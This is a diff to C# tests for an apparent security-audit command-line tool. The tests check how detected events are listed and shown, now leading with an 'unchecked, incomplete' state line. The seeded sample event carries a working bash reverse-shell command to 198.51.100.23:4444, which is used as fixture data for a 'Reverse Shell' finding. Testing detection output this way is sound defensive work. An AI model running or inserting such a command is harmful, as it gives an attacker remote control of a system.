@@ -23,9 +23,10 @@ public abstract partial class AuditCommandsTest
 
         Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
         var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
-        Assert.Equal("EVENT TIME (UTC)  SEVERITY  SERVICE       REMOTE              EVIDENCE  PROJECT         ID", lines[0].TrimEnd());
+        Assert.Equal("EVENT TIME (UTC)  SEVERITY  SERVICE       REMOTE              STATE                    ID", lines[0].TrimEnd());
         Assert.Equal([newest.Value[^12..], middle.Value[^12..], older.Value[^12..]], lines.Skip(1).Select(l => l.Split("  ", StringSplitOptions.RemoveEmptyEntries)[^1]));
-        Assert.Equal($"2026-11-20 08:00  CRITICAL  cart          198.51.100.23:4444  3/4 ok    shop-dev-1      {older.Value[^12..]}", lines[3]);
+        // Not checked against SCC and a collector failed for good: marked, in the state words.
+        Assert.Equal($"2026-11-20 08:00  CRITICAL  cart          198.51.100.23:4444  ! unchecked, incomplete  {older.Value[^12..]}", lines[3]);
         Assert.All(lines, l => Assert.True(l.Length <= 100, $"{l.Length} columns: {l}"));
     }
 
@@ -62,10 +63,10 @@ public abstract partial class AuditCommandsTest
         var result = await RunAsync("list", "--wide");
 
         var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
-        Assert.Equal(["EVENT TIME (UTC)", "SEVERITY", "CATEGORY", "PROJECT", "SERVICE", "REVISION", "REMOTE", "BINARY", "EVIDENCE", "COLLECTORS", "BUNDLE ID"], System.Text.RegularExpressions.Regex.Split(lines[0], @"\s{2,}"));
+        Assert.Equal(["EVENT TIME (UTC)", "SEVERITY", "CATEGORY", "PROJECT", "SERVICE", "REVISION", "REMOTE", "BINARY", "STATE", "COLLECTORS", "BUNDLE ID"], System.Text.RegularExpressions.Regex.Split(lines[0], @"\s{2,}"));
         Assert.EndsWith(id.Value, lines[1], StringComparison.Ordinal);
         Assert.Contains("2026-11-28 21:14:07.482  CRITICAL  Reverse Shell", lines[1], StringComparison.Ordinal);
-        Assert.Contains("/bin/bash  3/4 ok    3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
+        Assert.Contains("/bin/bash  ! unchecked, incomplete  3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
     }
 
     [Theory]
@@ -110,7 +111,7 @@ public abstract partial class AuditCommandsTest
     }
 
     [Fact]
-    public async Task Show_LeadsWithTheHeadlineAndWhatIsMissing_ArgumentsQuotedForAShell()
+    public async Task Show_LeadsWithTheStateThenTheHeadlineAndWhatIsMissing_ArgumentsQuotedForAShell()
     {
         var id = await SeedAsync(new SampleEvent { Args = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "it's", ""] });
 
@@ -118,14 +119,16 @@ public abstract partial class AuditCommandsTest
 
         Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
         var lines = result.Output.Split(Environment.NewLine);
-        Assert.Equal("CRITICAL Reverse Shell on service checkout-api (project shop-prod-4471, europe-west1) at 2026-11-28 21:14:07 UTC: /bin/bash → 198.51.100.23:4444", lines[0]);
-        Assert.Equal("Evidence: INCOMPLETE", lines[2]);
-        Assert.Equal("  audit-logs:        failed: PermissionDenied: the test says so", lines[3]);
+        Assert.Equal(
+            "State: unchecked; incomplete (audit-logs: failed for good: PermissionDenied: the test says so). The finding could not be checked against SCC (see the scc-finding collector). Nothing more will be collected, and the evidence named is missing.",
+            lines[0]);
+        Assert.Equal("CRITICAL Reverse Shell on service checkout-api (project shop-prod-4471, europe-west1) at 2026-11-28 21:14:07 UTC: /bin/bash → 198.51.100.23:4444", lines[1]);
+        Assert.Equal("  audit-logs:        failed (PermissionDenied: the test says so)", lines[3]);
         Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
         Assert.Contains("  Remote:            198.51.100.23:4444", result.Output, StringComparison.Ordinal);
         Assert.Contains("  Arguments:         bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' 'it'\\''s' ''", result.Output, StringComparison.Ordinal);
         Assert.Contains("Collectors (3 ok, 1 failed)", result.Output, StringComparison.Ordinal);
-        Assert.Contains("  audit-logs:        failed, 0 items: PermissionDenied: the test says so", result.Output, StringComparison.Ordinal);
+        Assert.Contains("  audit-logs:        0 items, failed (PermissionDenied: the test says so)", result.Output, StringComparison.Ordinal);
     }
 
     [Fact]
